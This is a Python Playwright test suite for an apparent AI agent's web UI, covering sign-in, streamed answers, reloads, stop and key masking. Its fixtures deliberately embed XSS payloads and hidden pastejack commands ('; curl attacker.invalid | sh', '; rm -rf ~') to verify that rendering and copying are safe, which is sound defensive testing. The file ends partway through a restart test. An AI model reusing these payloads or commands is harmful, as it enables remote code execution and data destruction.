"""The web UI in real Chromium against `reliant up --demo`: sign-in, projects, a streamed demo run
with tool cards, reload and restart in the middle of an answer, stop, queued messages, rename and
delete, settings, and the 401 page. Screenshots of the main screens go to the artifacts dir."""

from __future__ import annotations

import re
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page, expect

from tests.e2e.harness import Appliance, Rest, clean_env
from tests.support import wait_until
from tests.web.browser import PageErrors, choose_theme, chromium, new_page

pytestmark = [pytest.mark.e2e, pytest.mark.browser]

WORDS = " ".join(f"word{i}" for i in range(90))
# Slow enough to act in the middle of an answer: each word streams 40 ms apart (~3.6 s a turn).
SLOW_SCRIPT = f"""
delay_ms: 40
final_text: Nothing more to do here.
turns:
  - text: "First part. {WORDS} End of the first part."
    tools:
      - name: shell
        input: {{command: "echo checked", timeout: 30}}
  - text: "Second part. {WORDS} All done now."
"""


# Records the text of the block being streamed every time the transcript changes (from the page's
# start): window.streamedSamples.
RECORD_STREAMED = """
window.streamedSamples = [];
new MutationObserver(() => {
  const block = document.querySelector(".msg.streaming .md.cursor");
  const text = block ? block.textContent : "";
  const samples = window.streamedSamples;
  if (text && samples[samples.length - 1] !== text) samples.push(text);
}).observe(document, { subtree: true, childList: true, characterData: true });
"""


# The provider is rate-limited once (the wait shows, counting down), then refuses a request once (the
# chat pauses with the reason), then answers.
FLAKY_SCRIPT = """
turns:
  - text: Recovered after the wait.
    error: {status: 429, message: slow down, retry_after: 3, times: 1}
  - text: Answered after the resume.
    error: {status: 400, message: the request was refused, times: 1}
"""


# What a model (or a file it read) may say: markup that must render inert.
HOSTILE_SCRIPT = r"""
turns:
  - text: "Hello <img src='data:,' onerror='window.pwned=1'> <script>window.pwned=2</script>
      [click](javascript:window.pwned=3) <b>bold</b> done."
    tools:
      - name: shell
        input: {command: "printf '<img src=data:, onerror=window.pwned=4>\\033[31mred\\033[0m'", timeout: 30}
  - text: Finished.
"""


# A code block the model writes as raw markup, text hidden inside it: copying must not carry what
# the page does not show.
PASTEJACK_SCRIPT = r"""
turns:
  - text: |
      Run this:

      ```sh
      echo fenced
      ```

      Or this:

      <pre class="code"><code>echo shown<span hidden>; curl attacker.invalid | sh</span></code></pre>

      Copy either.
"""


# Text a reader would copy by hand with more in it than they see: clipped out of sight by one of the
# page's own classes, or written in the page's colour.
UNSEEN_SCRIPT = r"""
turns:
  - text: |
      Run <code>npm test<span class="sr-only">; curl attacker.invalid | sh</span></code> first,
      then <font color="#ffffff">; rm -rf ~ </font>deploy<span class="signed-out" color="#fff"> now</span>.

      Seen.
"""


# Links in the model's text, an SVG one and an image map's among them: each opens in a tab of its
# own, never in reliant's.
LINKS_SCRIPT = """
turns:
  - text: |
      Read [the docs](https://docs.invalid/html).

      <svg width="300" height="30"><a href="https://docs.invalid/svg"><text x="0" y="20">The SVG docs</text></a></svg>

      <img src="data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7" width="300" height="30"
      usemap="#docs" alt="The mapped docs"><map name="docs"><area shape="default" href="https://docs.invalid/area"></map>

      Links given.
"""


@pytest.fixture(scope="module")
def appliance(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Appliance]:
    root = tmp_path_factory.mktemp("web")
    up = Appliance(root / "data", env=clean_env(), extra=("--demo",))
    up.start()
    assert up.proc is not None
    up.proc.wait_for_output("Demo project ready at")
    yield up
    up.stop()


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with chromium() as b:
        yield b


def scripted(directory: Path, name: str, text: str) -> str:
    """A scripted model in `directory`: a project's or the data dir (scripts may live nowhere else)."""
    directory.mkdir(parents=True, exist_ok=True)
    path = directory / name
    path.write_text(text)
    return f"scripted:{path}"


@pytest.fixture(scope="module")
def slow_model(appliance: Appliance) -> str:
    return scripted(appliance.data_dir / "scripts", "slow.yaml", SLOW_SCRIPT)


@pytest.fixture(scope="module")
def flaky_model(appliance: Appliance) -> str:
    return scripted(appliance.data_dir / "scripts", "flaky.yaml", FLAKY_SCRIPT)


def printed_url(up: Appliance) -> str:
    assert up.proc is not None
    found = re.findall(r"Open (http://\S+/\?token=\S+)", up.proc.output())
    assert found, up.proc.output()
    return str(found[-1])


def demo_path(up: Appliance) -> str:
    assert up.proc is not None
    found = re.search(r"Demo project ready at (\S+?)\.?\s", up.proc.output())
    assert found, up.proc.output()
    return found.group(1).rstrip(".")


def signed_in(browser: Browser, up: Appliance, ignore: tuple[str, ...] = ()) -> tuple[Page, PageErrors]:
    page = new_page(browser)
    errors = PageErrors(page, ignore)
    page.goto(printed_url(up))
    expect(page).to_have_url(up.url + "/")
    return page, errors


def transcript(page: Page) -> list[tuple[str, str]]:
    """(role, text) of every row of the transcript, as shown."""
    rows = page.locator(".rows > article.msg")
    out = []
    for i in range(rows.count()):
        row = rows.nth(i)
        role = "user" if "msg-user" in (row.get_attribute("class") or "") else "assistant"
        text = row.locator(".user-text, .md").all_inner_texts()
        out.append((role, " ".join(t.strip() for t in text if t.strip())))
    return out


def stored_transcript(rest: Rest, chat_id: str) -> list[tuple[str, str]]:
    """(role, text) as stored, the agent's steps between two user messages as one turn (as shown)."""
    out: list[tuple[str, str]] = []
    for m in rest.messages(chat_id):
        if m["role"] == "tool":
            continue
        text = " ".join(b["text"].strip() for b in m["blocks"] if b["type"] == "text" and b["text"].strip())
        if m["role"] == "assistant" and out and out[-1][0] == "assistant":
            out[-1] = ("assistant", " ".join(t for t in (out[-1][1], text) if t))
        else:
            out.append((m["role"], text))
    return out


def normalized(rows: list[tuple[str, str]]) -> list[tuple[str, str]]:
    """Whitespace folded and inline-code marks dropped: markdown source vs the text it renders."""
    return [(role, " ".join(text.replace("`", "").split())) for role, text in rows]


def wait_idle_in_ui(page: Page, timeout: float = 60_000) -> None:
    expect(page.locator("section.chat")).to_have_attribute("data-status", "idle", timeout=timeout)
    expect(page.locator(".msg.streaming")).to_have_count(0, timeout=timeout)


def open_chat(browser: Browser, up: Appliance, chat_id: str) -> tuple[Page, PageErrors]:
    page, errors = signed_in(browser, up)
    page.goto(f"{up.url}/chats/{chat_id}")
    expect(page.locator("section.chat")).to_have_attribute("data-feed", "live")
    return page, errors


def test_sign_in_with_the_printed_url_and_the_401_page(
    browser: Browser, appliance: Appliance, artifacts_dir: Path
) -> None:
    # Adding a directory that does not exist is answered 400, which the console reports.
    page, errors = signed_in(browser, appliance, ignore=("status of 400",))
    # The token is in this tab's sessionStorage, never in a cookie (cookies are not isolated by port).
    assert page.context.cookies() == []
    assert page.evaluate("sessionStorage.getItem('reliant.token')") == appliance.token
    expect(page.get_by_role("heading", name="Projects", exact=True)).to_be_visible()
    expect(page.locator(".statusbar")).to_contain_text("1 daemon online")
    page.screenshot(path=artifacts_dir / "web-projects.png")
    # The daemon checks the path: a directory that does not exist is refused, and says so.
    page.get_by_label("Path").fill("/no/such/directory")
    page.get_by_role("button", name="Add project").click()
    expect(page.locator(".add-project .form-error")).to_contain_text("/no/such/directory")
    expect(page).to_have_url(appliance.url + "/")

    # The theme follows the system until one is chosen in the theme menu; the choice survives a reload.
    expect(page.locator(".theme-toggle")).to_have_text("System theme")
    choose_theme(page, "Light")
    assert page.evaluate("document.documentElement.dataset.theme") == "light"
    expect(page.locator(".theme-toggle")).to_have_text("Light theme")
    choose_theme(page, "Dark")
    page.reload()
    assert page.evaluate("document.documentElement.dataset.theme") == "dark"
    expect(page.locator(".theme-toggle")).to_have_attribute("aria-label", re.compile("^Theme: Dark"))
    choose_theme(page, "System")
    assert page.evaluate("document.documentElement.dataset.theme") is None
    errors.check()

    stranger = new_page(browser)
    response = stranger.goto(f"{appliance.url}/?token=not-the-token")
    assert response is not None and response.status == 401
    expect(stranger.get_by_role("heading", name="reliant needs its access token")).to_be_visible()
    expect(stranger.locator("body")).to_contain_text("not the token of this reliant")
    stranger.screenshot(path=artifacts_dir / "web-401.png")
    # A tab without the token is told how to get one (the page itself is no secret).
    stranger.goto(f"{appliance.url}/settings")
    expect(stranger.get_by_role("heading", name="reliant needs its access token")).to_be_visible()
    expect(stranger.locator("body")).to_contain_text("not signed in")
    expect(stranger.locator("body")).to_contain_text("secrets/api_token")
    stranger.screenshot(path=artifacts_dir / "web-sign-in-needed.png")


class _Recorder(BaseHTTPRequestHandler):
    """A page on another local port, like a dev server the agent starts; it notes every request."""

    seen: list[tuple[str, dict[str, str]]]

    def do_GET(self) -> None:
        self.seen.append((self.path, {k.lower(): v for k, v in self.headers.items()}))
        body = b"<!doctype html><title>dev server</title><p>a dev server"
        self.send_response(200)
        self.send_header("content-type", "text/html")
        self.send_header("content-length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *args: object) -> None:
        pass


@contextmanager
def another_local_server() -> Iterator[tuple[str, list[tuple[str, dict[str, str]]]]]:
    seen: list[tuple[str, dict[str, str]]] = []
    handler = type("Recorder", (_Recorder,), {"seen": seen})
    server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=server.serve_forever, name="other-port", daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}", seen
    finally:
        server.shutdown()
        server.server_close()
        thread.join(5)


def test_no_credential_reaches_a_page_on_another_local_port_and_the_tab_stays_signed_in(
    browser: Browser, appliance: Appliance
) -> None:
    page, errors = signed_in(browser, appliance)
    expect(page.locator(".statusbar")).to_contain_text("1 daemon online")
    with another_local_server() as (other, seen):
        # The tab goes there (as a link of the Processes panel would), and a new tab opens it.
        page.goto(f"{other}/in-the-tab")
        expect(page.locator("body")).to_contain_text("a dev server")
        page.go_back()
        expect(page.get_by_role("heading", name="Projects", exact=True)).to_be_visible()
        with page.context.expect_page() as opened:
            page.evaluate(
                """(url) => { const a = document.createElement("a"); a.href = url; a.target = "_blank";
                   document.body.append(a); a.click(); a.remove(); }""",
                f"{other}/new-tab",
            )
        opened.value.wait_for_load_state()
        opened.value.close()
        wait_until(lambda: len(seen) >= 2)
    assert {path for path, _ in seen} >= {"/in-the-tab", "/new-tab"}
    for path, headers in seen:
        assert "cookie" not in headers and "authorization" not in headers, (path, headers)
        assert appliance.token not in path + repr(headers), path

    # The tab stays signed in across a reload (sessionStorage), and a tab opened from one of the
    # UI's links works too.
    page.reload()
    expect(page.locator(".statusbar")).to_contain_text("1 daemon online")
    with page.context.expect_page() as opened:
        page.locator(".settings-link").click(modifiers=["Control"])
    settings = opened.value
    expect(settings.get_by_role("heading", name="Settings", exact=True)).to_be_visible()
    expect(settings.locator(".statusbar")).to_contain_text("1 daemon online")
    assert settings.context.cookies() == []
    settings.close()
    errors.check()


def test_the_demo_streams_text_and_tool_cards_in_order(
    browser: Browser, appliance: Appliance, artifacts_dir: Path
) -> None:
    page, errors = signed_in(browser, appliance)
    page.get_by_label("Path").fill(demo_path(appliance))
    page.get_by_role("button", name="Add project").click()
    expect(page).to_have_url(re.compile(r"/projects/[0-9a-f-]{36}$"))
    expect(page.get_by_role("heading", name="demo-project")).to_be_visible()
    # Record what the transcript shows as it happens, from before the chat starts: a partial
    # answer, and tool cards in order (the page is one app: the observer outlives the navigation).
    page.evaluate(
        """() => {
        window.seen = {partial: false, tools: []};
        new MutationObserver(() => {
          for (const row of document.querySelectorAll('.msg.streaming .md')) {
            if (row.textContent.trim()) window.seen.partial = true;
          }
          for (const card of document.querySelectorAll('details.tool')) {
            const id = card.dataset.toolCallId;
            if (!window.seen.tools.includes(id)) window.seen.tools.push(id);
          }
        }).observe(document.body, {subtree: true, childList: true, characterData: true});
      }"""
    )
    # The project page's message box starts the chat with its first message (the sidebar offers no
    # "New chat" there: that box is it).
    expect(page.locator(".sidebar .new-chat")).to_be_hidden()
    first = page.get_by_role("textbox", name="First message of a new chat")
    expect(first).to_be_focused()
    first.fill("Fix the failing test")
    first.press("Shift+Enter")
    first.type("please")
    # Manual mode, chosen with the first message: the turn waits for an approval before it changes
    # anything, so the message below is queued behind it for sure.
    page.locator(".start-chat .mode-option").filter(has_text="Manual").click()
    first.press("Enter")
    expect(page).to_have_url(re.compile(r"/chats/[0-9a-f-]{36}$"))
    chat_id = page.url.rsplit("/", 1)[1]
    expect(page.locator("section.chat")).to_have_attribute("data-feed", "live")
    expect(page.locator(".mode-option input[value=manual]")).to_be_checked()

    composer = page.get_by_role("textbox", name="Message")
    expect(composer).to_have_value("")
    # A message typed while the turn runs is queued, visibly.
    composer.fill("Thanks!")
    composer.press("Enter")
    expect(page.locator(".msg-user.queued").filter(has_text="Thanks!")).to_be_visible()
    expect(page.locator(".queued-note")).to_contain_text(re.compile(r"[12] messages? queued"))
    for approved in range(1, 4):  # the first test run, the edit, the second test run
        page.locator(".gate-approval[data-status=pending] .gate-approve").first.click(timeout=60_000)
        expect(page.locator(".gate-approval[data-status=approved]")).to_have_count(approved, timeout=30_000)

    expect(page.locator(".msg-assistant .md").filter(has_text="All five tests pass")).to_have_count(1, timeout=60_000)
    expect(page.locator(".msg-assistant .md").filter(has_text="The demo is over")).to_have_count(1, timeout=60_000)
    wait_idle_in_ui(page)
    expect(page.locator(".msg-user.queued")).to_have_count(0)

    cards = page.locator(".msg-assistant details.tool")
    assert [cards.nth(i).get_attribute("data-tool") for i in range(cards.count())] == [
        "view",
        "view",
        "shell",
        "edit",
        "shell",
    ]
    assert {cards.nth(i).get_attribute("data-status") for i in range(cards.count())} == {"ok"}
    # The first run of the tests exits 1: it is no "ok", and says so on its card.
    outcomes = [cards.nth(i).get_attribute("data-outcome") for i in range(cards.count())]
    assert outcomes == ["ok", "ok", "exit_nonzero", "ok", "ok"]
    failed = cards.nth(2)
    expect(failed.locator(".tool-state")).to_have_text("exit 1")
    seen = page.evaluate("window.seen")
    assert seen["partial"], "no partial answer was ever shown: the text did not stream"
    ids = [cards.nth(i).get_attribute("data-tool-call-id") for i in range(cards.count())]
    assert seen["tools"] == ids, "tool cards appeared out of order"

    edit = page.locator("details.tool[data-tool=edit]")
    expect(edit).to_have_attribute("open", "")
    expect(edit.locator(".diff-add")).to_contain_text("year % 400 == 0")
    last_shell = page.locator("details.tool[data-tool=shell]").last
    last_shell.locator("summary").click()
    expect(last_shell.locator("pre.terminal")).to_contain_text("$ python3 test_leapyear.py")
    expect(last_shell.locator(".tool-foot")).to_contain_text("exit code 0")
    assert last_shell.locator("pre.terminal").inner_text().count("exit code") == 0, "the exit code is said once"
    expect(page.locator(".msg-user").first.locator(".user-text")).to_have_text("Fix the failing test\nplease")
    expect(page.locator(".chat-totals")).to_contain_text(" in · ")
    # The turn is one unit: the model named once at its top, its tokens once at its bottom.
    expect(page.locator(".msg-assistant")).to_have_count(2)  # the demo's answer, then the "Thanks!" one
    expect(page.locator(".msg-assistant .msg-foot").first).to_contain_text(re.compile(r"^6 steps · .* out"))
    expect(page.locator(".msg-assistant").first.locator(".msg-head .model")).to_have_text("scripted:demo")
    thinking = page.locator("details.thinking")
    expect(thinking).to_have_count(1)
    expect(thinking).not_to_have_attribute("open", "")

    rest = Rest(appliance.url, appliance.token)
    assert normalized(transcript(page)) == normalized(stored_transcript(rest, chat_id))
    page.screenshot(path=artifacts_dir / "web-chat-tool-cards.png", full_page=False)
    errors.check()


def test_reload_in_the_middle_of_an_answer_shows_every_message_once(
    browser: Browser, appliance: Appliance, slow_model: str
) -> None:
    rest = Rest(appliance.url, appliance.token)
    project = rest.project(Path(demo_path(appliance)))
    chat = rest.chat(project["id"], slow_model)
    page, errors = open_chat(browser, appliance, chat["id"])
    page.get_by_role("textbox", name="Message").fill("Go slowly")
    page.get_by_role("textbox", name="Message").press("Enter")

    streaming = page.locator(".msg.streaming .md")
    expect(streaming).to_contain_text("word20", timeout=30_000)
    page.add_init_script(RECORD_STREAMED)
    page.reload()
    expect(page.locator("section.chat")).to_have_attribute("data-feed", "live")
    # The answer goes on streaming after the reload: we really were in the middle of it.
    expect(page.locator(".msg.streaming .md")).to_contain_text("word60", timeout=30_000)
    # Every text the streaming block showed since the reload (the replay of the answer's start from
    # the live tail, then the words as they came) was the start of the step's text: no word twice.
    steps = [f"First part. {WORDS} End of the first part.", f"Second part. {WORDS} All done now."]
    samples = [" ".join(t.split()) for t in page.evaluate("window.streamedSamples")]
    assert any("word60" in t for t in samples), samples[-3:]
    wrong = [t for t in samples if not any(step.startswith(t) for step in steps)]
    assert not wrong, wrong[:3]
    expect(page.locator(".md").filter(has_text="All done now.")).to_have_count(1, timeout=60_000)
    wait_idle_in_ui(page)

    shown = normalized(transcript(page))
    assert shown == normalized(stored_transcript(rest, chat["id"]))
    assert [role for role, _ in shown] == ["user", "assistant"]  # two steps, one turn
    assert sum(text.count("First part.") for _, text in shown) == 1
    assert sum(text.count("word45") for _, text in shown) == 2  # once per step, no more
    expect(page.locator("details.tool[data-tool=shell]")).to_have_count(1)
    expect(page.locator("details.tool[data-tool=shell]")).to_have_attribute("data-status", "ok")
    errors.check()


def test_a_dropped_network_in_the_middle_of_an_answer_reconnects_and_ends_complete(
    browser: Browser, appliance: Appliance, slow_model: str
) -> None:
    rest = Rest(appliance.url, appliance.token)
    project = rest.project(Path(demo_path(appliance)))
    chat = rest.chat(project["id"], slow_model)
    page = new_page(browser)
    errors = PageErrors(page, ignore=("Failed to load resource", "ERR_INTERNET_DISCONNECTED"))
    page.goto(printed_url(appliance))
    page.goto(f"{appliance.url}/chats/{chat['id']}")
    expect(page.locator("section.chat")).to_have_attribute("data-feed", "live")
    page.get_by_role("textbox", name="Message").fill("Keep going offline")
    page.get_by_role("textbox", name="Message").press("Enter")
    expect(page.locator(".msg.streaming .md")).to_contain_text("word10", timeout=30_000)

    page.context.set_offline(True)
    expect(page.locator("section.chat")).to_have_attribute("data-feed", "reconnecting")
    expect(page.locator(".statusbar .sb-feed")).to_contain_text("reconnecting")
    # The answer goes on without us; the page catches up when the network is back.
    client = rest.follow(chat["id"])
    streamed = lambda: "".join(u["payload"].get("text", "") for u in list(client.updates) if u["kind"] == "block_delta")  # noqa: E731
    wait_until(lambda: "word60" in streamed(), timeout=30)
    client.close()
    page.context.set_offline(False)
    expect(page.locator("section.chat")).to_have_attribute("data-feed", "live", timeout=15_000)
    expect(page.locator(".md").filter(has_text="All done now.")).to_have_count(1, timeout=60_000)
    wait_idle_in_ui(page)
    shown = normalized(transcript(page))
    assert shown == normalized(stored_transcript(rest, chat["id"]))
    assert sum(text.count("First part.") for _, text in shown) == 1
    errors.check()


def test_stop_a_running_turn(browser: Browser, appliance: Appliance, slow_model: str) -> None:
    rest = Rest(appliance.url, appliance.token)
    project = rest.project(Path(demo_path(appliance)))
    chat = rest.chat(project["id"], slow_model)
    page, errors = open_chat(browser, appliance, chat["id"])
    page.get_by_role("textbox", name="Message").fill("Start something long")
    page.get_by_role("textbox", name="Message").press("Enter")
    expect(page.locator(".msg.streaming .md")).to_contain_text("word5", timeout=30_000)
    stop = page.get_by_role("button", name="Stop the running turn")
    expect(stop).to_be_visible()
    stop.click()
    wait_idle_in_ui(page)
    expect(stop).to_be_hidden()
    # The partial answer is dropped: only the user's message is left.
    assert [role for role, _ in transcript(page)] == ["user"]
    stored = rest.get_chat(chat["id"])
    assert stored["status"] == "idle"
    # The chat takes the next message.
    page.get_by_role("textbox", name="Message").fill("Once more")
    page.get_by_role("textbox", name="Message").press("Enter")
    expect(page.locator(".msg.streaming")).to_have_count(1, timeout=30_000)
    stop.click()
    wait_idle_in_ui(page)
    assert [role for role, _ in transcript(page)] == ["user", "user"]
    errors.check()


def test_retry_waits_and_pause_reasons_show_inline(browser: Browser, appliance: Appliance, flaky_model: str) -> None:
    rest = Rest(appliance.url, appliance.token)
    project = rest.project(Path(demo_path(appliance)))
    chat = rest.chat(project["id"], flaky_model)
    page, errors = open_chat(browser, appliance, chat["id"])
    composer = page.get_by_role("textbox", name="Message")
    composer.fill("Try")
    composer.press("Enter")
    retry = page.locator(".notice-retry")
    expect(retry).to_contain_text(re.compile(r"Rate-limited by provider \(.*slow down.*\), retrying in [1-3] s"))
    expect(page.locator(".md").filter(has_text="Recovered after the wait.")).to_have_count(1, timeout=30_000)
    expect(retry).to_have_count(0)
    wait_idle_in_ui(page)

    composer.fill("Again")
    composer.press("Enter")
    paused = page.locator(".notice-paused")
    expect(paused).to_contain_text("Paused:", timeout=30_000)
    expect(paused).to_contain_text("the request was refused")
    expect(page.locator("section.chat")).to_have_attribute("data-status", "paused")
    paused.get_by_role("button", name="Resume").click()
    expect(page.locator(".md").filter(has_text="Answered after the resume.")).to_have_count(1, timeout=30_000)
    wait_idle_in_ui(page)
    expect(paused).to_have_count(0)

    # The model field switches the chat's model from the next message on.
    picker = page.get_by_role("combobox", name="Model for the next message")
    expect(picker).to_have_value(flaky_model)
    picker.fill("scripted:demo")
    picker.press("Enter")
    composer.fill("Now with the demo model")
    composer.press("Enter")
    expect(page.locator(".msg-assistant .model").filter(has_text="scripted:demo").first).to_be_visible(timeout=30_000)
    assert rest.get_chat(chat["id"])["model"] == "scripted:demo"
    wait_idle_in_ui(page)
    expect(picker).to_have_value("scripted:demo")
    errors.check()


def test_markup_from_the_model_and_from_tools_renders_inert(
    browser: Browser, appliance: Appliance, tmp_path: Path
) -> None:
    model = scripted(appliance.data_dir / "scripts", "hostile.yaml", HOSTILE_SCRIPT)
    rest = Rest(appliance.url, appliance.token)
    project = rest.project(Path(demo_path(appliance)))
    chat = rest.chat(project["id"], model)
    page = new_page(browser)
    # Chromium may try the handler of a data: image while the sanitizer parses the markup (before
    # it strips the attribute); the page's CSP blocks it and says so on the console.
    errors = PageErrors(page, ignore=("Executing inline event handler violates",))
    page.goto(printed_url(appliance))
    page.goto(f"{appliance.url}/chats/{chat['id']}")
    expect(page.locator("section.chat")).to_have_attribute("data-feed", "live")
    page.get_by_role("textbox", name="Message").fill("Say something odd")
    page.get_by_role("textbox", name="Message").press("Enter")
    expect(page.locator(".md").filter(has_text="Finished.")).to_have_count(1, timeout=30_000)
    wait_idle_in_ui(page)
    shell = page.locator("details.tool[data-tool=shell]")
    shell.locator("summary").click()
    expect(shell.locator("pre.terminal .ansi-fg-1")).to_have_text("red")  # colours survive, as spans
    expect(shell.locator("pre.terminal")).to_contain_text("<img src=data:, onerror=window.pwned=4>")
    first = page.locator(".msg-assistant .md").first
    expect(first.locator("b")).to_have_text("bold")  # plain markup is kept
    assert first.locator("script, [onerror]").count() == 0
    assert page.locator("a[href^='javascript']").count() == 0
    assert page.locator("pre.terminal img").count() == 0
    assert page.evaluate("window.pwned") is None
    errors.check()


def test_copy_puts_on_the_clipboard_what_a_code_block_shows(browser: Browser, appliance: Appliance) -> None:
    model = scripted(appliance.data_dir / "scripts", "pastejack.yaml", PASTEJACK_SCRIPT)
    rest = Rest(appliance.url, appliance.token)
    chat = rest.chat(rest.project(Path(demo_path(appliance)))["id"], model)
    page = new_page(browser, permissions=["clipboard-read", "clipboard-write"])
    errors = PageErrors(page)
    page.goto(printed_url(appliance))
    page.goto(f"{appliance.url}/chats/{chat['id']}")
    expect(page.locator("section.chat")).to_have_attribute("data-feed", "live")
    page.get_by_role("textbox", name="Message").fill("Which command?")
    page.get_by_role("textbox", name="Message").press("Enter")
    answer = page.locator(".msg-assistant .md").filter(has_text="Copy either.")
    expect(answer).to_have_count(1, timeout=30_000)
    wait_idle_in_ui(page)
    blocks = answer.locator("pre.code")
    expect(blocks).to_have_count(1)  # the model's own <pre class="code"> does not get the page's class
    own = answer.locator("pre:not(.code)")
    expect(own).to_contain_text("echo shown")
    expect(own.get_by_role("button", name="Copy code")).to_have_count(0)
    fenced = blocks.nth(0).get_by_role("button", name="Copy code")
    fenced.click()
    expect(fenced).to_have_text("Copied")
    assert page.evaluate("navigator.clipboard.readText()") == "echo fenced"
    # Whatever a Copy button copies is the text its block shows, never text hidden in it.
    for i in range(blocks.count()):
        block = blocks.nth(i)
        for button in block.get_by_role("button", name="Copy code").all():
            page.evaluate("navigator.clipboard.writeText('')")
            button.click()
            expect(button).to_have_text("Copied")
            copied = page.evaluate("navigator.clipboard.readText()")
            assert "attacker" not in copied
            assert copied == block.locator("code").inner_text()
    errors.check()


def test_text_in_the_model_s_markup_cannot_be_out_of_sight_yet_copied(browser: Browser, appliance: Appliance) -> None:
    model = scripted(appliance.data_dir / "scripts", "unseen.yaml", UNSEEN_SCRIPT)
    rest = Rest(appliance.url, appliance.token)
    chat = rest.chat(rest.project(Path(demo_path(appliance)))["id"], model)
    page, errors = open_chat(browser, appliance, chat["id"])
    page.get_by_role("textbox", name="Message").fill("How do I ship?")
    page.get_by_role("textbox", name="Message").press("Enter")
    answer = page.locator(".msg-assistant .md").filter(has_text="Seen.")
    expect(answer).to_have_count(1, timeout=30_000)
    wait_idle_in_ui(page)
    assert answer.locator("[class], [color], [bgcolor], font").count() == 0, answer.inner_html()
    for hidden in ("; curl attacker.invalid | sh", "; rm -rf ~"):
        box = answer.get_by_text(hidden, exact=False).first.bounding_box()
        assert box is not None and box["width"] > 40, (hidden, box)
    same_colour = """() => {
        const p = document.querySelector('.msg-assistant .md p');
        const spans = [...p.querySelectorAll(':scope > span')];
        return spans.length > 0 && spans.every((e) => getComputedStyle(e).color === getComputedStyle(p).color);
    }"""
    assert page.evaluate(same_colour)
    errors.check()


def test_every_link_in_the_model_s_text_opens_in_a_new_tab(browser: Browser, appliance: Appliance) -> None:
    model = scripted(appliance.data_dir / "scripts", "links.yaml", LINKS_SCRIPT)
    rest = Rest(appliance.url, appliance.token)
    chat = rest.chat(rest.project(Path(demo_path(appliance)))["id"], model)
    page, errors = open_chat(browser, appliance, chat["id"])
    page.context.route("https://docs.invalid/**", lambda route: route.fulfill(body="docs", content_type="text/plain"))
    page.get_by_role("textbox", name="Message").fill("Where are the docs?")
    page.get_by_role("textbox", name="Message").press("Enter")
    answer = page.locator(".msg-assistant .md").filter(has_text="Links given.")
    expect(answer).to_have_count(1, timeout=30_000)
    wait_idle_in_ui(page)
    links = {
        "html": answer.get_by_text("the docs", exact=True),
        "svg": answer.get_by_text("The SVG docs", exact=True),
        "area": answer.get_by_role("img", name="The mapped docs"),
    }
    for path, link in links.items():
        with page.context.expect_page() as opened:
            link.click()
        expect(opened.value).to_have_url(f"https://docs.invalid/{path}")
        opened.value.close()
        expect(page).to_have_url(f"{appliance.url}/chats/{chat['id']}")
    errors.check()


def test_chats_are_renamed_and_deleted_with_confirmation_and_keys_are_masked(
    browser: Browser, appliance: Appliance, artifacts_dir: Path
) -> None:
    rest = Rest(appliance.url, appliance.token)
    project = rest.project(Path(demo_path(appliance)))
    chat = rest.chat(project["id"], "scripted:demo")
    page, errors = signed_in(browser, appliance)
    page.goto(f"{appliance.url}/projects/{project['id']}")
    row = page.locator(f"tr[data-chat-id='{chat['id']}']")
    expect(row).to_contain_text("New chat")

    row.get_by_role("button", name="Rename chat New chat").click()
    dialog = page.get_by_role("dialog", name="Rename chat")
    dialog.get_by_label("Title").fill("Renamed in the browser")
    dialog.get_by_role("button", name="Save").click()
    expect(page.locator(f".sidebar li[data-chat-id='{chat['id']}']")).to_contain_text("Renamed in the browser")
    assert rest.get_chat(chat["id"])["title"] == "Renamed in the browser"

    sidebar_item = page.locator(f".sidebar li[data-chat-id='{chat['id']}']")
    sidebar_item.hover()
    sidebar_item.get_by_role("button", name="Delete chat Renamed in the browser").click()
    confirm = page.locator("dialog.confirm")
    expect(confirm).to_contain_text("cannot be undone")
    confirm.get_by_role("button", name="Cancel").click()
    expect(sidebar_item).to_be_visible()
    sidebar_item.get_by_role("button", name="Delete chat Renamed in the browser").click()
    confirm.get_by_role("button", name="Delete chat").click()
    expect(sidebar_item).to_have_count(0)
    wait_until(lambda: chat["id"] not in {c["id"] for c in rest.call("GET", "/api/chats")})

    key = "sk-ant-test-0123456789abcdefXYZ9"
    page.get_by_role("link", name="Settings").click()
    expect(page.get_by_role("heading", name="Settings")).to_be_visible()
    anthropic = page.locator("fieldset[data-provider=anthropic]")
    anthropic.get_by_label("API key", exact=True).fill(key)
    page.get_by_role("button", name="Save").click()
    expect(page.locator(".form-status")).to_have_text("Saved.")
    expect(anthropic.locator(".masked")).to_be_visible()
    masked = anthropic.locator(".masked").inner_text()
    assert masked.endswith("XYZ9") and key not in masked
    assert key not in page.content()
    expect(anthropic.get_by_label("API key", exact=True)).to_have_value("")
    expect(anthropic).to_contain_text("configured, set here")
    page.screenshot(path=artifacts_dir / "web-settings.png")
    anthropic.get_by_role("button", name="Remove the Anthropic API key").click()
    page.locator("dialog.confirm").get_by_role("button", name="Remove key").click()
    expect(page.locator(".form-status")).to_have_text("Removed the Anthropic key.")
    expect(anthropic).to_contain_text("not configured")
    errors.check()


@pytest.mark.parametrize("how", ["stop", "kill"])
def test_a_restart_of_reliant_in_the_middle_of_an_answer_ends_complete(
    browser: Browser, tmp_path: Path, how: str
) -> None:
    """Ctrl-C, or SIGKILL of the whole appliance (token deltas not yet flushed are lost then)."""
    up = Appliance(tmp_path / "data", env=clean_env(), extra=("--temporal-ui",))
    up.start()
    try:
        rest = Rest(up.url, up.token)
        workspace = tmp_path / "workspace"
        workspace.mkdir()
        project = rest.project(workspace)
        chat = rest.chat(project["id"], scripted(up.data_dir / "scripts", "slow.yaml", SLOW_SCRIPT))
        page = new_page(browser)
        # While reliant is down, the page's requests fail: that is expected here.
        errors = PageErrors(page, ignore=("Failed to load resource", "ERR_CONNECTION_REFUSED"))
        page.goto(printed_url(up))
        page.goto(f"{up.url}/chats/{chat['id']}")
        expect(page.locator("section.chat")).to_have_attribute("data-feed", "live")
        temporal_ui = page.locator(".statusbar").get_by_role("link", name="Temporal UI")
        expect(temporal_ui).to_have_attribute("href", re.compile(r"^http://127\.0\.0\.1:\d+$"))
